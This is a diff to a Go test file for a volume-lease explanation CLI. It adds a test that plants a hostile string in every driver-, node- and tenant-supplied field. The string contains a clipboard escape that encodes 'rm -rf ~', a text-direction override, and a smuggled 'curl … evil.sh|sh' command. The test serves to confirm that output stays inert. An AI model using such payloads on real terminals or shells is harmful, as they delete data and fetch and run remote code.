@@ -157,6 +157,46 @@ func TestExplainTextOfEverySituation(t *testing.T) {
 	}
 }
 
+// Kubelets, drivers, tenants and devices write these.
+func TestNoForeignStringIsMoreThanTextInAnExplanation(t *testing.T) {
+	const evil = "\x1b]52;c;cm0gLXJmIH4=\a\x1b[2K\u202e;curl${IFS}evil.sh|sh;'"
+	for name, l := range looks() {
+		l.Driver += evil
+		l.Survey.Volume, l.Pv.Spec.CSI.VolumeHandle = "vol"+evil, "vol"+evil
+		l.notes = append(l.notes, "note"+evil)
+		for i := range l.Survey.Holders {
+			h := &l.Survey.Holders[i]
+			h.NodeID, h.NodeName, h.NodeUID, h.BootID = "id"+evil, "node"+evil, h.NodeUID+evil, "boot"+evil
+			if h.Node != nil {
+				h.Node.BootID = "boot2" + evil
+			}
+			for j := range h.Evidence {
+				e := &h.Evidence[j]
+				e.Source, e.Detail, e.NodeUID, e.BootID = "source"+evil, "detail"+evil, h.NodeUID, h.BootID
+			}
+		}
+		for _, pv := range []string{l.Survey.PV, ""} {
+			l.Survey.PV = pv
+			e := Explain(l)
+			var text, document strings.Builder
+			printExplanation(&text, e, cli.Style{Width: cli.MinWidth})
+			if err := cli.PrintAs(&document, "json", e, nil); err != nil {
+				t.Fatal(err)
+			}
+			if all := text.String() + document.String(); strings.ContainsAny(all, "\x1b\a\u202e") {
+				t.Errorf("%s: a terminal would act on %q", name, all)
+			}
+			for i := range e.Decision.Unblock {
+				for _, command := range e.Decision.Unblock[i].Commands {
+					if strings.Contains(strings.NewReplacer(`\;`, "", `\$`, "", `\|`, "", `\'`, "").Replace(command), ";curl") {
+						t.Errorf("%s: a shell would run more than one command: %s", name, command)
+					}
+				}
+			}
+		}
+	}
+}
+
 func TestExplainTextDoesNotLoseWordsToColourOrWidth(t *testing.T) {
 	for name, l := range looks() {
 		var narrow, wide strings.Builder
@@ -214,14 +254,6 @@ func TestTheAgeOfALeaseIsRoughAndMayBeInTheFuture(t *testing.T) {
 	} {
 		if got := cli.Ago(d); got != want {
 			t.Errorf("%s: %q, want %q", d, got, want)
-		}
-	}
-}
-
-func TestCommandsToPasteAreQuoted(t *testing.T) {
-	for word, want := range map[string]string{"n1.example.com": "n1.example.com", "i 1": "'i 1'", "it's": `'it'\''s'`, "$(x)": "'$(x)'", "": "''"} {
-		if got := cli.ShellQuote(word); got != want {
-			t.Errorf("%q: %s, want %s", word, got, want)
 		}
 	}
 }
